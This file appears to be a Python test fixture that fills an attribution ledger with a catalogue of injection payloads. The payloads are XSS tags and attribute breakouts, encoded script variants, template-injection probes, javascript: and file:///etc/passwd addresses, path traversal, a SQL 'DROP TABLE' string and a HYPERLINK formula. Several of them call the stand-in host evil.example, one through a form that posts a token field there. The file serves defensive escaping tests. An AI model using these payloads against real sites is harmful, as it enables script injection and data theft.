"""Words that try to be more than words, and a ledger in which every place that holds words holds such."""

from __future__ import annotations

from pathlib import Path

from inquit import ids
from inquit.ledger.base import Finding
from inquit.ledger.copies import signature
from inquit.ledger.judgements import different, judge, same
from inquit.ledger.ledger import Ledger
from inquit.ledger.sides import declare
from inquit.ledger.writer import Writer
from inquit.records import Appearance, Article, Figure, Notice, Party, Said, Span, Statement, relay_to
from tests.ledger.made import FACTS

_TAGS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y='1em'>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='https://evil.example/x.swf'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>*{background:url(//evil.example)}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=token><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href='javascript:alert(1)'>here</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>here</a>",
    "<button formaction=javascript:alert(1)>here</button>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<div style='position:fixed;inset:0;background:red'>ours</div>",
    "<p id=main>second main</p><p id=told>",
    "<mark class='content'>not said</mark>",
    "<bdi dir=rtl>turned</bdi>",
    "<dialog open>key</dialog>",
    "<slot name=x></slot><custom-element onclick=alert(1)>",
)
_ATTRIBUTES = (
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "` onmouseover=`alert(1)",
    'x" autofocus onfocus=alert(1) y="',
    '" hx-get="//evil.example" hx-trigger="load',
    '" style="background:url(//evil.example)',
    '"/><svg/onload=alert(1)>',
    "'-alert(1)-'",
    '\\"><img src=x onerror=alert(1)>',
)
_CLOSINGS = (
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</main></body></html><h1>ours</h1>",
    "</mark></p></div><h1>ours</h1>",
    "</option></select><script>alert(1)</script>",
    "]]></svg><script>alert(1)</script>",
)
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "‹script›alert(1)‹/script›",
    "<\u200bscript>alert(1)</script>",
    "<\x00script>alert(1)</\x00script>",
    "<script\x0c>alert(1)</script>",
    "<img\u00a0src=x\u2028onerror=alert(1)>",
)
_TEMPLATES = (
    "{{ 7*7 }}{% include 'base.html' %}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{{ site.token }}{{ request.app }}",
    "{# a #}{% raw %}{{ config }}",
    "%s %(token)s {0.__class__}",
)
_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "//evil.example/x",
    'https://evil.example/"onclick="alert(1)',
    "https://user:secret@evil.example/",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "../../../../etc/passwd",
)
_LETTERS = (
    "\u202eotxet desrever\u202c",
    "\u2066\u2067turned\u2069",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308" * 12,
    "שלום <b>עולם</b>",
    "\U0001f1fa\U0001f1e6\U0001f468\u200d\U0001f469\u200d\U0001f467<i>",
    "\ufeff<b>bom</b>",
    '=HYPERLINK("//evil.example")',
    "A" * 3000,
    "'; DROP TABLE statements; --",
    '" OR NEAR(a b) * ^ NOT',
)
STRINGS = (*_TAGS, *_ATTRIBUTES, *_CLOSINGS, *_ENCODED, *_TEMPLATES, *_ADDRESSES, *_LETTERS)


def make_ledger(path: Path) -> Path:
    """An article a string, which stands in its text, title, outlet, address, source, addressee, channel, content,
    figure, candidates, notice; in a side's name, and in what people decided.
    """
    with Writer(path, FACTS) as writer:
        for number, words in enumerate(STRINGS):
            writer.keep(_finding(words, number))
    with Ledger.open(path) as ledger:
        statements = ledger.statements(limit=1000).statements
        people = ledger.people(limit=1000).people
    names = [person.name for person in people]
    for number, words in enumerate(STRINGS[:12]):
        declare(path, words, [people[number].id, people[-number - 1].id], by=words)
    for left, right in zip(names[0:20:2], names[1:20:2], strict=True):
        (same if len(left) % 2 else different)(path, left, right, by=left, why=right)
    for number, statement in enumerate(statements[:60]):
        words = STRINGS[number % len(STRINGS)]
        verdict = ("right", "wrong", "corrected")[number % 3]
        correction = {"source": [words], "addressee": words} if verdict == "corrected" else None
        judge(path, statement.id, verdict, by=words, why=words, correction=correction)
    return path


def _finding(words: str, number: int) -> Finding:
    day = f"2024-03-{number % 28 + 1:02}"
    told = f"{words} told {words} on {words} that {words} killed 12 {words} in {words} ({words})."
    text = f"{told}\n\n{words} said that {words}."
    text = text.replace("\x00", "\ufffd")  # as every text that comes in
    words = words.replace("\x00", "\ufffd")
    at = [place for place in range(len(text)) if text.startswith(words, place)]
    spans = [Span(place, place + len(words)) for place in at]
    seen = Appearance(words, words, words, words, words, day, "option", None, "r" * 64, "text")
    article = Article(ids.article_id(text), text, published_at=day, published_by="option", outlet=words, title=words)
    party = Party(words, (spans[0],), "name", words, None, 0.8, (spans[1],), (words, words + "!"))
    figure_at = text.index("killed 12") + len("killed ")
    figure = Figure(
        *("12", (Span(figure_at, figure_at + 2),), 12, 12, None, words, (spans[4],), "killed", "people", words[:3]),
        *("reported", words, (spans[6],), words, (spans[5],), Said(day, day, (spans[2],)), words, words),
    )
    first = _statement(article, party, (Span(spans[3].start, spans[6].end + 1),), "told", figures=(figure,))
    second = _statement(article, party, (spans[8],), "said", above=first)
    notice = Notice("attribution", "doubt", words, spans[0])
    return Finding(article, seen, (first, second), (notice,), signature(text))


def _statement(
    article: Article,
    party: Party,
    content: tuple[Span, ...],
    cue: str,
    *,
    figures: tuple[Figure, ...] = (),
    above: Statement | None = None,
) -> Statement:
    start = article.text.index(f" {cue} ") + 1
    cues, sources = (Span(start, start + len(cue)),), (party,)
    return Statement(
        ids.statement_id(article.id, "mixed", content, cues, party.spans),
        *(article, content, cues, party.spans, 0.9, "mixed", "accuse"),
        parent_id=above.id if above else None,
        depth=1 if above else 0,
        sources=sources,
        addressees=sources,
        channel=party.why,
        said=Said("2024-03-01", "2024-03-02", party.why),
        relay=relay_to(sources, above=above, outlet=article.outlet),
        figures=figures,
    )
